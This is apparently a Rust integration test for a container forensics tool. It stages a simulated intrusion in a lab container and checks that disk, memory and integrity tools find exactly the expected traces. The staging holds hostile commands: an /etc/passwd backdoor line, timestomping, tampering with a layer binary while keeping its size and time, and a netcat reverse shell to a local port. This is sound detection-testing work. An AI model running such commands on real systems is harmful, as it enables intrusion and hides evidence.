//! A scripted intrusion, and what finds it: the whole truth is one table; all of it is found, and nothing else is. On a
//! live node whose daemon was killed, and on the disk of that node, mounted so that nothing can write to it.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::harness::{Cgroup, Containerd, Lab, dewar_json, dewar_ok, until};

/// In the container's own files.
const INTRUSION: &str = r#"
    echo payload > /tmp/dropped
    echo backdoor > /usr/stomped; touch -d "2001-09-09 01:46:40" /usr/stomped
    rm /etc/group
    echo intruder >> /etc/passwd
"#;

/// In the layer below, on the host: one byte of a program, with its size and its time kept.
const TAMPER: &str = r#"
    cd /var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/2/fs/bin
    stat -c %.Y many > /tmp/when
    printf X | dd of=many bs=1 seek=100000 conv=notrunc status=none
    touch -d "@$(cat /tmp/when)" many
"#;

/// Stands in no file: `suspect` makes it in its memory (`programs/suspect.c`).
const SECRET: &str = ".24/elpats_yrettab.esroh-tcerroc";

/// What finds what.
const ON_DISK: &[(&str, &str)] = &[
    ("timeline", "/etc changed"),
    ("timeline", "/etc/group deleted"),
    ("timeline", "/etc/passwd changed"),
    ("timeline", "/tmp changed"),
    ("timeline", "/tmp/dropped added"),
    ("timeline", "/usr changed"),
    ("timeline", "/usr/stomped added mtime-before-birth"),
    ("diff", "C /etc"),
    ("diff", "D /etc/group"),
    ("diff", "C /etc/passwd"),
    ("diff", "C /tmp"),
    ("diff", "A /tmp/dropped"),
    ("diff", "C /usr"),
    ("diff", "A /usr/stomped"),
    ("fsck --deep", "layer-file-changed /bin/many: other content of the same size and time of last modification"),
];

/// The same of what only lives.
const IN_MEMORY: &[(&str, &str)] = &[
    ("inspect --processes", "/var/lib/.hidden (deleted)"),
    ("inspect --processes", "sh is connected to 127.0.0.1:31337"),
    ("volatile", "sh is connected to 127.0.0.1:31337"),
    ("core", "the secret is in /var/lib/.hidden (deleted)"),
];

type Found = BTreeSet<(&'static str, String)>;

fn table(parts: &[&[(&'static str, &str)]]) -> Found {
    parts.iter().flat_map(|part| part.iter()).map(|(by, what)| (*by, (*what).to_owned())).collect()
}

fn text(value: &Value) -> String {
    value.as_str().unwrap_or_default().to_owned()
}

fn list(value: &Value) -> std::slice::Iter<'_, Value> {
    value.as_array().map_or(&[][..], Vec::as_slice).iter()
}

/// A node with its stores on a disk of its own, and an intruder in one of its containers; the daemon is killed.
fn node(containerd: Containerd) -> Option<Lab> {
    let lab = Lab::start_with_disks(containerd, Cgroup::V1)?;
    lab.sh("truncate -s 700M /var/lib/disk.img; mkfs.ext4 -q /var/lib/disk.img; mkdir -p /mnt/disk
         mount -o loop /var/lib/disk.img /mnt/disk
         mkdir -p /mnt/disk/var/lib/containerd /var/lib/containerd /mnt/disk/run
         mount --bind /mnt/disk/var/lib/containerd /var/lib/containerd");
    lab.start_containerd();
    lab.import("programs");
    lab.run("app", "programs", &["/bin/suspect"], &[]);
    until("the suspect answers", || lab.inside("app", &["/bin/suspect", "check"]).status.success());
    lab.ask("app", &["/bin/sh", "-ec", INTRUSION]);
    // Who listens is elsewhere: in the container's network, and no process of the container.
    let pid = lab.pid("app");
    lab.sh(&format!("(sleep 100000 | nsenter -t {pid} --net busybox nc -l -p 31337) < /dev/null > /dev/null 2>&1 &"));
    let has_row = |row: &str| lab.try_sh(&format!("cat /proc/{pid}/net/tcp* | grep -qE '{row}'")).status.success();
    until("somebody listens", || has_row(":7A69 0+:0000 0A"));
    lab.sh("ctr task exec -d --exec-id shell app /bin/nc 127.0.0.1 31337 -e /bin/sh");
    until("the shell is connected", || has_row(" 0100007F:7A69 01"));
    lab.kill_containerd();
    lab.sh(TAMPER);
    Some(lab)
}

/// What the files tell, by all commands that look at them.
fn on_disk(lab: &Lab, flags: &[&str]) -> Found {
    let run = |args: &[&str]| {
        let ran = lab.dewar(&[flags, args].concat());
        let said = String::from_utf8_lossy(&ran.stderr).into_owned();
        assert!(matches!(ran.status.code(), Some(0 | 1)), "{args:?}: {said}");
        String::from_utf8(ran.stdout).expect("it is text")
    };
    // The suspect's own files.
    let is_own = |path: &str| ["/var", "/run"].iter().any(|dir| path.starts_with(dir));
    let mut found = Found::new();
    for line in run(&["timeline", "app", "--format", "jsonl"]).lines() {
        let line: Value = serde_json::from_str(line).expect("a line is JSON");
        if line["data_type"] == "dewar:file" && !is_own(&text(&line["path"])) {
            let what = format!("{} {} {}", text(&line["path"]), text(&line["fate"]), text(&line["tag"][0]));
            found.insert(("timeline", what.trim_end().to_owned()));
        }
    }
    let diff = run(&["diff", "app"]);
    let short = |line: &str| line.split("  (").next().unwrap_or_default().to_owned();
    found.extend(diff.lines().filter(|line| !is_own(&line[2..])).map(|line| ("diff", short(line))));
    let report: Value = serde_json::from_str(&run(&["fsck", "--deep", "--json"])).expect("it is JSON");
    for finding in list(&report[0]["findings"]).filter(|finding| finding["severity"] != "note") {
        let (thing, seen) = (text(&finding["thing"]), text(&finding["seen"]));
        let path = thing.split(',').next().unwrap_or_default();
        let what = seen.split(':').next().unwrap_or_default();
        found.insert(("fsck --deep", format!("{} {path}: {what}", text(&finding["code"]))));
    }
    found
}

/// A member of the checkpoint in `/tmp/case`: its path.
fn member(lab: &Lab, told: &Value, kind: &str) -> String {
    let mut members = list(&told[0]["members"]).filter(|member| text(&member["media_type"]).contains(kind));
    let digest = text(&members.next().expect("a checkpoint has it")["digest"]);
    let path = format!("/tmp/case/blobs/sha256/{}", digest.trim_start_matches("sha256:"));
    lab.sh(&format!("test -f {path}"));
    path
}

/// What the memory of the checkpoint in `/tmp/case` tells.
fn in_memory(lab: &Lab) -> Found {
    let told = dewar_json(lab, &["inspect", "/tmp/case", "--processes", "--json"]);
    let (raw, volatile) = (member(lab, &told, "memory.raw"), member(lab, &told, "volatile"));
    let mut found = Found::new();
    let processes: Vec<&Value> = list(&told[0]["processes"]["processes"]).collect();
    let by_pid =
        |pid: &Value| *processes.iter().find(|p| p["pid"] == *pid).unwrap_or_else(|| panic!("{pid}: {told:#}"));
    for process in &processes {
        let exe = text(&process["exe"]["text"]);
        if exe.ends_with(" (deleted)") {
            found.insert(("inspect --processes", exe));
        }
        for socket in list(&process["files"]).map(|file| &file["socket"]).filter(|s| s["state"] == "ESTABLISHED") {
            let (who, to) = (text(&process["command"]["text"]), text(&socket["remote"]));
            found.insert(("inspect --processes", format!("{who} is connected to {to}")));
        }
    }
    let volatile: Value = serde_json::from_str(&lab.sh(&format!("cat {volatile}"))).expect("it is JSON");
    let sockets = list(&volatile["networks"]).flat_map(|network| list(&network["sockets"]));
    for socket in sockets.filter(|s| s["state"] == "ESTABLISHED" && s["protocol"] != "unix") {
        for holder in list(&socket["holders"]) {
            let who = text(&by_pid(&holder["pid"])["command"]["text"]);
            found.insert(("volatile", format!("{who} is connected to {}", text(&socket["remote"]))));
        }
    }
    lab.sh(&format!("rm -rf /tmp/raw; tar -C /tmp -xf {raw}"));
    for path in lab.sh(&format!("grep -laF '{SECRET}' /tmp/raw/*/core || true")).lines() {
        let pid: u64 = path.split('/').nth(3).and_then(|pid| pid.parse().ok()).expect("it is a pid");
        found.insert(("core", format!("the secret is in {}", text(&by_pid(&pid.into())["exe"]["text"]))));
    }
    found
}

/// Turns one bit at many places of every file of a bundle, one at a time, and hears whether `verify` names the file.
const FLIP: &str = r#"
import os, random, subprocess
random.seed(4711)
files = [os.path.join(d, f) for d, _, fs in os.walk("/tmp/case") for f in fs]
assert len(files) > 10, files
sizes = {path: os.path.getsize(path) for path in files}
places = [(path, random.randrange(size)) for path, size in sizes.items() for _ in range(min(size, 20))]
for path, at in sorted(places):
    with open(path, "r+b") as file:
        file.seek(at)
        byte = file.read(1)[0]
        file.seek(at)
        file.write(bytes([byte ^ 1 << random.randrange(8)]))
    ran = subprocess.run(["dewar", "verify", "/tmp/case"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    if ran.returncode not in (1, 2) or os.path.basename(path).encode() not in ran.stdout:
        print(path, at, ran.returncode, ran.stdout.decode(errors="replace"))
    with open(path, "r+b") as file:
        file.seek(at)
        file.write(bytes([byte]))
print(len(places), "places")
"#;

fn an_intrusion_is_found(containerd: Containerd) {
    let Some(lab) = node(containerd) else { return };
    assert_eq!(on_disk(&lab, &[]), table(&[ON_DISK]), "live");
    let ran = lab.dewar(&["checkpoint", "app", "-o", "/tmp/case", "--task", "raw", "--case", "4711"]);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    assert_eq!(in_memory(&lab), table(&[IN_MEMORY]));
    dewar_ok(&lab, &["verify", "/tmp/case"]);

    // The node is switched off. Its disk lies in a file.
    lab.sh("umount /var/lib/containerd; lose-node || true");
    until("nobody holds the disk", || lab.try_sh("umount /mnt/disk").status.success());
    let hash = lab.sh("sha256sum < /var/lib/disk.img");
    lab.sh("mount -o loop,ro,noload /var/lib/disk.img /mnt/disk");
    assert_eq!(on_disk(&lab, &["--sysroot", "/mnt/disk", "--write-blocked"]), table(&[ON_DISK]), "a disk image");
    lab.sh("umount /mnt/disk");
    assert_eq!(lab.sh("sha256sum < /var/lib/disk.img"), hash);

    let said = lab.sh(&format!("cat > /tmp/flip.py <<'END'\n{FLIP}\nEND\npython3 /tmp/flip.py"));
    let places = said.lines().last().unwrap_or_default().to_owned();
    assert_eq!(said.lines().count(), 1, "{said}");
    assert!(places.split(' ').next().and_then(|n| n.parse::<u32>().ok()).is_some_and(|n| n > 200), "{places}");
}

#[test]
fn an_intrusion_is_found_with_1_7() {
    an_intrusion_is_found(Containerd::V1_7);
}

#[test]
fn an_intrusion_is_found_with_2_1() {
    an_intrusion_is_found(Containerd::V2_1);
}
